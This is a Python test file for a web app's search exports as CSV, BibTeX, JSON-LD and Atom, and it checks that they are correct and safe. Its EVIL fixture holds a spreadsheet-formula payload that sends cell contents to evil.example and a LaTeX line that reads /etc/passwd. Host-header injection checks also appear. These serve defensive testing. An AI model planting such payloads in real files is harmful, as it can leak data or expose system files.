"""A search as a table, as linked data, as a bibliography and as a feed."""

import csv
import io
import re
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pyoxigraph import RdfFormat, parse

from node.practice import Kind, Place
from node.rdf.namespaces import NC, PREFIXES, SCHEMES
from node.web.views.bibtex import escaped, key
from node.web.views.feed_view import xml_text
from node.web.views.spreadsheet import COLUMNS, safe
from tests.web.conftest import HOME
from tests.web.page import Page

ATOM = "{http://www.w3.org/2005/Atom}"
EVIL = '=HYPERLINK("http://evil.example?"&A1;"x") {\\input{/etc/passwd}} <b>&amp; 100 % "quoted"\n@misc{x,}'
FORMS = ("csv", "bib", "jsonld", "atom")


@pytest.fixture
def stocked(world):
    world.add_peer()
    world.publish("evil", title={"en": EVIL[:200]}, summary={"en": EVIL})
    world.publish("old", title={"nl": "Tellende camera's"}, themes=(SCHEMES + "themes/data-protection",))
    zug = Place(name={"en": "Zug", "de": "Zug"}, country=PREFIXES["euCountry"] + "CHE")
    world.publish(
        "vote", by=world.zug, kind=Kind.PILOT, places=(zug,), start="2018-06", end="2018", title={"en": "A test vote"}
    )
    return world


def rows(answer):
    return list(csv.DictReader(io.StringIO(answer.data.decode("utf-8-sig"), newline="")))


@pytest.mark.usefixtures("stocked")
def test_a_table_for_spreadsheets(client):
    answer = client.get("/search.csv?hl=es")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "practices.csv" in answer.headers["Content-Disposition"]
    found = {row["iri"]: row for row in rows(answer)}
    assert len(found) == 3
    vote = found["http://localhost:8002/practices/vote"]
    assert set(vote) == set(COLUMNS)
    assert (vote["kind"], vote["countries"], vote["start"], vote["status"]) == (
        "Proyecto piloto",
        "Suiza",
        "2018-06",
        "en vigor",
    )
    assert vote["page"] == f"{HOME}/peers/localhost:8002/vote"
    assert found[f"{HOME}/practices/old"]["language"] == "nl"
    evil = found[f"{HOME}/practices/evil"]
    assert evil["summary"] == f"'{EVIL}"


@given(st.text())
def test_no_cell_is_a_formula(text):
    cell = safe(text)
    assert not re.match(r"[ ]*[=+\-@\t\r\n＝＋－＠]", cell)  # noqa: RUF001 - full-width forms count too
    assert cell.removeprefix("'").replace("\x00", "") == text.replace("\x00", "").removeprefix("'")


@pytest.mark.usefixtures("stocked")
def test_a_bibliography(client):
    answer = client.get("/search.bib")
    assert answer.mimetype == "application/x-bibtex"
    entries = re.findall(r"^@(\w+)\{([^,]+),$", answer.text, flags=re.MULTILINE)
    assert [kind for kind, _ in entries] == ["misc"] * 3
    assert len({name for _, name in entries}) == 3
    assert "title = {{A test vote}}" in answer.text
    assert "date = {2026-11-" in answer.text
    assert "note = {Pilot, Zug, 2018, Signed by its city}" in answer.text
    keys = {name for _, name in entries}
    again = client.get("/search.bib?q=vote").text
    assert re.findall(r"^@\w+\{([^,]+),$", again, flags=re.MULTILINE)[0] in keys


@given(st.text())
def test_no_text_ends_its_field_or_runs(text):
    written = escaped(text)
    depth = 0
    for mark in re.findall(r"(?<!\\)(?:\\\\)*([{}])", re.sub(r"\\[{}]", "", written)):
        depth += 1 if mark == "{" else -1
        assert depth >= 0
    assert depth == 0
    assert not re.search(r"[\n\r\x00]", written)
    assert not re.search(r"(?<!\\)[%$#&_]", written)
    assert set(re.findall(r"\\([a-z]+)", written)) <= {"textbackslash", "textasciitilde", "textasciicircum", "char"}


def test_keys_stay_and_differ():
    one, other = key("https://a.example/practices/cameras"), key("https://b.example/practices/cameras")
    assert one != other
    assert one == key("https://a.example/practices/cameras")
    assert re.fullmatch(r"cameras-[0-9a-f]{10}", one)
    assert re.fullmatch(r"practice-[0-9a-f]{10}", key("https://a.example/practices/東京"))


@pytest.mark.usefixtures("stocked")
def test_linked_data(client):
    answer = client.get("/search.jsonld?kind=pilot")
    assert answer.mimetype == "application/ld+json"
    statements = {
        (str(t.subject.value), t.predicate.value, t.object.value) for t in parse(answer.data, format=RdfFormat.JSON_LD)
    }
    vote = "http://localhost:8002/practices/vote"
    assert (f"{HOME}/search.jsonld?kind=pilot#1", PREFIXES["schema"] + "item", vote) in statements
    assert (vote, PREFIXES["rdf"] + "type", NC + "Pilot") in statements
    assert (vote, PREFIXES["dcterms"] + "title", "A test vote") in statements
    assert (vote, NC + "start", "2018-06") in statements
    assert (f"{vote}#place-1", NC + "country", PREFIXES["euCountry"] + "CHE") in statements
    said = {
        (t.subject.value, t.predicate.value, str(t.object))
        for t in parse(client.get("/peers/localhost:8002/vote.nt").data, format=RdfFormat.N_TRIPLES)
    }
    ours = {
        (t.subject.value, t.predicate.value, str(t.object))
        for t in parse(answer.data, format=RdfFormat.JSON_LD)
        if str(t.subject.value).startswith(vote)
    }
    assert ours <= said  # nothing is said of a practice but what it says itself


def feed(client, query=""):
    answer = client.get(f"/search.atom{query}")
    assert answer.headers["Content-Type"] == "application/atom+xml; charset=utf-8"
    return ET.fromstring(answer.data)


@pytest.mark.usefixtures("stocked")
def test_a_feed_as_rfc_4287_wants_it(client):
    root = feed(client, "?kind=pilot&kind=policy&sort=oldest&page=7")
    for element in (root, *root.iter(f"{ATOM}entry")):
        assert [len(element.findall(f"{ATOM}{name}")) for name in ("id", "title", "updated")] == [1, 1, 1]
        assert element.find(f"{ATOM}author/{ATOM}name").text
    links = {link.get("rel"): link.get("href") for link in root.findall(f"{ATOM}link")}
    assert links["self"] == root.find(f"{ATOM}id").text == f"{HOME}/search.atom?kind=pilot&kind=policy"
    assert links["alternate"] == f"{HOME}/search?kind=pilot&kind=policy"
    entries = root.findall(f"{ATOM}entry")
    assert len({entry.find(f"{ATOM}id").text for entry in entries}) == len(entries) == 3
    updated = [entry.find(f"{ATOM}updated").text for entry in entries]
    assert updated == sorted(updated, reverse=True)
    assert root.find(f"{ATOM}updated").text == updated[0]
    old = next(entry for entry in entries if "old" in entry.find(f"{ATOM}id").text)
    title = old.find(f"{ATOM}title")
    assert title.get("{http://www.w3.org/XML/1998/namespace}lang") == "nl"
    themes = {each.get("scheme"): each.get("term") for each in old.findall(f"{ATOM}category")}
    assert themes[SCHEMES + "themes/"] == "data-protection"
    evil = next(entry for entry in entries if "evil" in entry.find(f"{ATOM}id").text)
    assert evil.find(f"{ATOM}summary").text.startswith("=HYPERLINK")
    assert list(evil.find(f"{ATOM}summary")) == []


def test_a_feed_tells_what_is_new_and_an_unchanged_one_costs_nothing(stocked, client):
    answer = client.get("/search.atom?q=camera")
    again = client.get("/search.atom?q=camera", headers={"If-None-Match": answer.headers["ETag"]})
    assert again.status_code == 304
    stocked.publish("newer", title={"en": "A newer camera"})
    newer = client.get("/search.atom?q=camera", headers={"If-None-Match": answer.headers["ETag"]})
    assert newer.status_code == 200
    first = ET.fromstring(newer.data).find(f"{ATOM}entry/{ATOM}id").text
    assert first == f"{HOME}/practices/newer"
    assert ET.fromstring(answer.data).find(f"{ATOM}id").text == ET.fromstring(newer.data).find(f"{ATOM}id").text


def test_an_empty_feed_is_one_all_the_same(client):
    root = feed(client, "?q=xylophone%00%0b")
    assert root.findall(f"{ATOM}entry") == []
    assert root.find(f"{ATOM}updated").text == "1970-01-01T00:00:00Z"


@given(st.text())
def test_any_text_fits_into_xml(text):
    whole = xml_text(text)
    escaped_text = whole.replace("&", "&amp;").replace("<", "&lt;").replace("\r", "&#13;")
    assert (ET.fromstring(f"<a>{escaped_text}</a>").text or "") == whole


def test_a_list_ends_at_a_thousand_and_a_feed_at_fifty(world, client):
    for number in range(1_005):
        world.publish(f"p-{number}", follow=False)
    world.follow()
    assert len(rows(client.get("/search.csv"))) == 1_000
    assert len({row["iri"] for row in rows(client.get("/search.csv"))}) == 1_000
    assert len(feed(client).findall(f"{ATOM}entry")) == 50
    document = client.get("/search.jsonld").get_json(force=True)
    assert (len(document["itemListElement"]), document["numberOfItems"]) == (1_000, 1_005)


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.usefixtures("stocked")
def test_every_list_takes_the_parameters_of_the_page(client, form):
    one, all_of_them = (client.get(f"/search.{form}{query}") for query in ("?kind=pilot", ""))
    assert one.status_code == all_of_them.status_code == 200
    assert len(one.data) < len(all_of_them.data)
    assert client.get(f"/search.{form}?page=0").status_code == 400
    assert client.get(f"/search.{form}", query_string={"q": "a" * 1_001}).status_code == 400
    again = client.get(f"/search.{form}", headers={"If-None-Match": all_of_them.headers["ETag"]})
    assert again.status_code == 304
    assert b"evil.example/" not in client.get(f"/search.{form}?kind=pilot", headers={"Host": "evil.example"}).data


def test_what_is_withdrawn_leaves_every_list(stocked, client):
    assert "vote" in client.get("/search.csv").text
    stocked.withdraw("vote", by=stocked.zug)
    for form in FORMS:
        assert "practices/vote" not in client.get(f"/search.{form}").text


def test_a_browser_can_add_the_search(client):
    page = Page(client.get("/").text)
    assert {
        "rel": "search",
        "type": "application/opensearchdescription+xml",
        "href": "/opensearch.xml",
        "title": "New Commons, Ghent",
    } in page.all("link")
    answer = client.get("/opensearch.xml")
    assert answer.mimetype == "application/opensearchdescription+xml"
    root = ET.fromstring(answer.data)
    name = "{http://a9.com/-/spec/opensearch/1.1/}"
    assert len(root.find(f"{name}ShortName").text) <= 16
    templates = {url.get("type"): url.get("template") for url in root.findall(f"{name}Url")}
    assert templates["text/html"].startswith(f"{HOME}/search?q={{searchTerms}}")
    assert templates["application/x-suggestions+json"] == f"{HOME}/suggest?q={{searchTerms}}"
    for template in templates.values():
        path = template.removeprefix(HOME).replace("{searchTerms}", "cameras").replace("{startPage?}", "")
        assert client.get(path).status_code == 200


def test_a_browser_that_adds_the_search_from_a_page_searches_in_its_language(client):
    page = Page(client.get("/fi/about").text)
    assert "/opensearch.xml?hl=fi" in [link["href"] for link in page.all("link") if link.get("rel") == "search"]
    answer = client.get("/opensearch.xml?hl=fi").text
    assert "Mitä muut kaupungit tekivät" in answer
    assert f'template="{HOME}/fi/search?q={{searchTerms}}' in answer
    assert "<Language>fi</Language>" in answer
    assert client.get("/opensearch.xml?hl=%3Cx%3E").status_code == 400


def test_suggestions_for_a_browser_are_said_in_the_language_asked_for(world, client):
    world.publish(title={"en": "Cameras", "fi": "Kamerat"})
    _, labels, notes, _ = client.get("/suggest?q=kam&hl=fi").get_json(force=True)
    assert "Kamerat" in labels
    assert notes[labels.index("Kamerat")] == "Käytäntö"
